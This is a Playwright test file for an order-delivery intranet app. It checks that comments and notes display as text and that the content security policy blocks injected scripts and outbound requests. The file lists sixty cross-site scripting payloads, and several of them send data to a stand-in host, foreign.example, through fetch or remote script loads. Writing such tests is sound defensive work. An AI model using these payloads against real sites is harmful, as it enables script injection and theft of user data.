import { expect, type Page, test } from '@playwright/test';
import { card, followUpPath, operator, orderPath, sendOrder } from './orders.ts';
import { signIn } from './people.ts';

// T35: what people type is text everywhere: none of it runs, nothing of it leaves.

const attack = "window.wasRun=(window.wasRun||0)+1;fetch('https://foreign.example/'+localStorage.length)";
const tags = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'marquee',
  'audio src=x',
  'math',
];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart'];
const payloads = [
  ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${attack}">`)),
  `<script>${attack}</script>`,
  '<script src="https://foreign.example/x.js"></script>',
  '<img src="https://foreign.example/p.png">',
  '<link rel="stylesheet" href="https://foreign.example/x.css">',
  `<a href="javascript:${attack}">clique</a>`,
  `"><script>${attack}</script>`,
  `'-${attack}-'`,
  '{{constructor.constructor("window.wasRun=1")()}}',
  `<svg><script>${attack}</script></svg>`,
  '<style>@import "https://foreign.example/x.css";</style>',
];

/** Hears of scripts that ran, of what the policy had to stop, and of requests that leave. */
const watch = async (page: Page) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'foreign.example') foreign.push(request.url());
  });
  await page.addInitScript(() => {
    Object.assign(window, { stopped: [] as string[] });
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { stopped: string[] }).stopped.push(event.violatedDirective);
    });
  });
  return async () => ({
    foreign,
    ...(await page.evaluate(() => {
      const seen = window as unknown as { wasRun?: number; stopped: string[] };
      return { wasRun: seen.wasRun ?? 0, stopped: seen.stopped };
    })),
  });
};
const nothing = { foreign: [], wasRun: 0, stopped: [] };

test('T35: sixty attacks in comments, notes and names are read as text on every screen of an order', async ({
  page,
  request,
}) => {
  expect(payloads).toHaveLength(60);
  const order = await sendOrder(request);
  const ana = await operator(request);
  for (const message of payloads) {
    const sent = await request.post(
      `/api/intranet-rest-api/comments/order-suppliers/${order.delivery.publicId}`,
      { ...ana, data: { message } },
    );
    expect(sent.ok(), await sent.text()).toBe(true);
  }
  const [image = ''] = payloads;
  const noted = await request.put(`/api/order-suppliers/details/${order.delivery.publicId}`, {
    ...ana,
    data: { operatorNote: payloads.slice(0, 6).join(' ').slice(0, 1000) },
  });
  expect(noted.ok(), await noted.text()).toBe(true);

  const seen = await watch(page);
  await signIn(page);
  await page.goto(orderPath(order));
  await expect(card(page)).toContainText(order.delivery.orderNumber);
  await card(page)
    .getByRole('button', { name: /^Mais ações/ })
    .click();
  await page.getByRole('button', { name: 'Comentários' }).click();
  const panel = page.getByRole('dialog', { name: /^Comentários da entrega/ });
  for (const message of payloads) await expect(panel.getByText(message, { exact: true })).toHaveCount(1);
  expect(await seen()).toEqual(nothing);
  await panel.getByRole('button', { name: 'Fechar' }).click();
  await card(page).getByRole('button', { name: 'Histórico' }).click();
  const history = page.getByRole('dialog', { name: /^Histórico da entrega/ });
  await expect(history.getByText(image).first()).toBeVisible();
  expect(await seen()).toEqual(nothing);

  await page.goto(followUpPath(orderPath(order)));
  await expect(page.getByText(order.delivery.orderNumber).first()).toBeVisible();
  await page.goto('/delivery/delivery-list');
  await page.getByRole('textbox', { name: 'Buscar entregas' }).fill(image.slice(0, 100));
  await page.keyboard.press('Enter');
  await expect(page.getByText('Nenhum resultado encontrado.')).toBeVisible();
  expect(await seen()).toEqual(nothing);
});

test('T35: a script that gets into the page is not run, and what it would send does not leave', async ({
  page,
}) => {
  const seen = await watch(page);
  await signIn(page);
  const answer = await page.evaluate(async () => {
    const attempts: Record<string, string> = {};
    try {
      const script = document.createElement('script');
      script.append('window.wasRun=1');
      document.body.append(script);
    } catch (error) {
      attempts['script'] = String(error);
    }
    attempts['fetch'] = await fetch(`https://foreign.example/?${localStorage.length}`).then(
      () => 'sent',
      () => 'stopped',
    );
    return attempts;
  });
  expect(answer['fetch']).toBe('stopped');
  const { foreign, wasRun, stopped } = await seen();
  expect({ foreign, wasRun }).toEqual({ foreign: [], wasRun: 0 });
  expect(stopped).toContain('connect-src');
});
